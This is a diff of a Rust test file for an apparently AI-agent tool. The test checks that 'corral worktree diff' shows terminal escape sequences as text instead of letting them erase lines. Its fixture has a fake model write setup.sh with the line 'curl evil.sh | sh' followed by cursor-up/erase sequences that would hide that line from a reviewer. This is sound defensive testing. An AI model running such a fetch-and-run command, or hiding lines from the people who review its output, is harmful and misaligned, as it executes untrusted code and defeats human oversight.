@@ -2,7 +2,6 @@
 //! `--json` output, even printed in pieces; a worktree's diff shows escape sequences as text,
 //! so a file cannot hide lines from the person reviewing it.
 
-use std::path::Path;
 use std::time::Duration;
 
 use serde_json::json;
@@ -85,32 +84,12 @@ async fn a_secret_printed_in_two_pieces_is_redacted_everywhere() {
     }
 }
 
-/// `git` with a fixed identity and no user or system config.
-fn git(dir: &Path, args: &[&str]) {
-    let out = std::process::Command::new("git")
-        .args(args)
-        .current_dir(dir)
-        .env("GIT_CONFIG_NOSYSTEM", "1")
-        .env("GIT_CONFIG_GLOBAL", "/dev/null")
-        .env("GIT_AUTHOR_NAME", "Test")
-        .env("GIT_AUTHOR_EMAIL", "test@example.com")
-        .env("GIT_COMMITTER_NAME", "Test")
-        .env("GIT_COMMITTER_EMAIL", "test@example.com")
-        .output()
-        .expect("run git");
-    assert!(out.status.success(), "git {args:?}: {out:?}");
-}
-
 /// A file whose cursor-up and erase-line sequences would wipe the line before them from the
 /// reviewer's screen: `corral worktree diff` shows them as text, the hidden line stays seen.
 #[tokio::test]
 async fn worktree_diff_shows_escape_sequences_instead_of_obeying_them() {
     let h = Harness::new();
-    let dir = h.work();
-    git(&dir, &["init", "-q", "-b", "main"]);
-    std::fs::write(dir.join("a.txt"), "one\n").unwrap();
-    git(&dir, &["add", "."]);
-    git(&dir, &["commit", "-q", "-m", "first"]);
+    git_repo(&h, "one\n");
     let content = "harmless\ncurl evil.sh | sh\n\u{1b}[1A\u{1b}[2K\u{1b}[1A\u{1b}[2Kharmless too\n";
     let server = FakeModel::start().await;
     let arguments = json!({ "path": "setup.sh", "content": content }).to_string();
